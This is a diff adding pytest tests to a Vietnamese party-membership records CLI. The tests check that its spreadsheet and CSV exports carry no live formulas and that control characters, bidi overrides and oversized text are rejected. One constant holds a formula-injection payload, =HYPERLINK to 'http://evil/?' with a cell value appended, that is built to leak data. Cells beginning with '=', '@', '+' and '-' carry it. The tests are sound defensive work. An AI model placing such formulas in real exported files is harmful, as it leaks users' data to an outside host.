@@ -6,6 +6,7 @@ import json
 from pathlib import Path
 
 import pendulum
+import pytest
 from click.testing import CliRunner
 
 from ketnap import Course, Document, OrganizationTree, Quotas, Stage, Unit, Workflow
@@ -145,3 +146,133 @@ def test_ids_that_share_a_file_name_are_both_exported(tmp_path: Path) -> None:
     assert run("export", "--store", str(store), "--out", str(tmp_path / "out"))[0] == 0
     ids = {loads(p.read_bytes()).id for p in (tmp_path / "out").glob("*.json")}
     assert ids == {"HS/1", "HS:1"}
+
+
+# --- issue 24: what an office's files carry in and out ------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil/?"&B2,"x")'
+
+
+def test_every_file_the_commands_write_holds_no_live_formula(tmp_path: Path) -> None:
+    from tests.test_sheets import live_cells  # noqa: PLC0415
+
+    store = tmp_path / "s.db"
+    tree = OrganizationTree(
+        [
+            Unit(code="=H", name=FORMULA, level="district"),
+            Unit(code="@C", name="+Chi bộ", level="base_branch", parent="=H", members=15),
+        ]
+    )
+    dossier = make_dossier(meeting=MEETING, organization=tree.organization("@C"), name=FORMULA)
+    walk(Workflow(), dossier, meeting=MEETING, until=Stage.PROBATION)
+    document = tmp_path / "hs.json"
+    document.write_text(dumps(dossier), encoding="utf-8")
+    course = Course(code="-K1", unit="=H", opened_on=pendulum.Date(2024, 3, 1),
+                    closed_on=pendulum.Date(2024, 3, 9), trainees=40)  # fmt: skip
+    code, output = run(
+        "setup", "--store", str(store),
+        "--tree", str(write(tmp_path / "tree.json", tree.to_data())),
+        "--quotas", str(write(tmp_path / "q.json", Quotas({("@C", 2024): 2}).to_data())),
+        "--courses", str(write(tmp_path / "c.json", [course_data(course)])),
+    )  # fmt: skip
+    assert code == 0, output
+    assert run("import", str(document), "--store", str(store))[0] == 0
+    written: list[Path] = []
+    for sheet in ("xlsx", "csv"):
+        out = tmp_path / sheet
+        code, output = run("export", "--store", str(store), "--out", str(out), "--setup",
+                           "--sheet", sheet)  # fmt: skip
+        assert code == 0, output
+        written += [path for path in out.iterdir() if path.suffix in {".csv", ".xlsx"}]
+    report = tmp_path / "report.csv"
+    assert run("report", "--store", str(store), "--unit", "=H", "--year", "2024",
+               "--format", "csv", "--out", str(report))[0] == 0  # fmt: skip
+    form = tmp_path / "bieu-3.xlsx"
+    assert run("statistics", "--store", str(store), "--unit", "=H", "--on", "2024-12-31",
+               "--format", "xlsx", "--out", str(form))[0] == 0  # fmt: skip
+    code, output = run("statistics", "--store", str(store), "--unit", "=H", "--on",
+                       "2024-12-31", "--format", "csv")  # fmt: skip
+    (tmp_path / "bieu-3.csv").write_text(output, encoding="utf-8")
+    written += [report, form, tmp_path / "bieu-3.csv"]
+    assert len(written) == 9  # the issue's 9 files
+    assert {str(path.name): live_cells(path) for path in written if live_cells(path)} == {}
+    # What was written as text reads back as it was stored.
+    again = tmp_path / "again.db"
+    assert run("setup", "--store", str(again), "--sheet",
+               str(tmp_path / "xlsx" / "thiet-lap.xlsx"))[0] == 0  # fmt: skip
+    rows = tmp_path / "csv" / "danh-sach.csv"
+    code, output = run(
+        "import-sheet", "--store", str(again), str(rows), "--adopted-on", "2025-01-05"
+    )
+    assert code == 0, output
+    code, output = run("export", "--store", str(again), "--out", str(tmp_path / "json"), "--setup")
+    assert code == 0, output
+    assert json.loads((tmp_path / "json" / "tree.json").read_text())["units"][0]["name"] == FORMULA
+    assert loads((tmp_path / "json" / "HS-001.json").read_bytes()).candidate.name == FORMULA
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("Huyện\x1b[2J", "U+001B"),
+        ("Huyện\u202e", "U+202E"),
+        ("Huyện\u0000", "U+0000"),
+        ("H" * 100_000, "longer than 1,000 characters"),
+    ],
+    ids=["escape", "bidi", "NUL", "100 KB"],
+)
+@pytest.mark.parametrize("key", ["name", "code"])
+def test_a_unit_text_is_cleaned_as_a_dossiers_and_named_by_its_key(
+    tmp_path: Path, name: str, reason: str, key: str
+) -> None:
+    data = TREE.to_data()
+    data["units"][1][key] = name
+    code, out = run("setup", "--store", str(tmp_path / "s.db"),
+                    "--tree", str(write(tmp_path / "tree.json", data)))  # fmt: skip
+    assert code == 1
+    assert f"Error: tree.units[1].{key}: " in out
+    assert reason in out
+    assert "\x1b" not in out
+    assert not (tmp_path / "s.db").exists()  # refused before the store is opened
+
+
+def test_a_unit_name_in_nfd_is_stored_in_nfc(tmp_path: Path) -> None:
+    data = TREE.to_data()
+    data["units"][0]["name"] = "Đảng bộ huye\u0302\u0323n"
+    store = tmp_path / "s.db"
+    assert (
+        run("setup", "--store", str(store), "--tree", str(write(tmp_path / "t.json", data)))[0] == 0
+    )
+    run("export", "--store", str(store), "--out", str(tmp_path / "o"), "--setup")
+    tree = json.loads((tmp_path / "o" / "tree.json").read_text(encoding="utf-8"))
+    assert tree["units"][0]["name"] == "Đảng bộ huyện"
+
+
+def test_a_quota_or_course_text_is_cleaned_and_named_by_its_key(tmp_path: Path) -> None:
+    quotas = write(tmp_path / "q.json", [{"unit": "C\u202e", "year": 2024, "admissions": 1}])
+    code, out = run("setup", "--store", str(tmp_path / "s.db"), "--quotas", str(quotas))
+    assert (code, "Error: quotas[0].unit: " in out) == (1, True)
+    course = {"code": "K\x07", "unit": "H", "opened_on": "2024-01-01", "closed_on": "2024-01-02",
+              "trainees": 3}  # fmt: skip
+    code, out = run("setup", "--store", str(tmp_path / "s.db"),
+                    "--courses", str(write(tmp_path / "c.json", [course])))  # fmt: skip
+    assert (code, "Error: courses[0].code: " in out) == (1, True)
+
+
+def test_setup_reads_a_tree_in_windows_1258_and_says_so(tmp_path: Path) -> None:
+    from tests.test_sheets import UNIT_HEADER, write_text  # noqa: PLC0415
+
+    rows: list[list[object]] = [UNIT_HEADER, ["H", "Đảng bộ huyện Yên Lạc", "district", "", "", ""],
+                                ["C", "Chi bộ cơ sở", "base_branch", "H", 15, ""]]  # fmt: skip
+    path = write_text(tmp_path / "to-chuc.csv", rows, "cp1258")
+    store = tmp_path / "s.db"
+    code, out = run("setup", "--store", str(store), "--sheet", str(path))
+    assert code == 1
+    assert "--encoding cp1258" in out
+    code, out = run("setup", "--store", str(store), "--sheet", str(path), "--encoding", "cp1258",
+                    "--lang", "en")  # fmt: skip
+    assert code == 0, out
+    assert f"Reading {path} as Windows-1258" in out
+    run("export", "--store", str(store), "--out", str(tmp_path / "o"), "--setup")
+    tree = json.loads((tmp_path / "o" / "tree.json").read_text(encoding="utf-8"))
+    assert tree["units"][0]["name"] == "Đảng bộ huyện Yên Lạc"
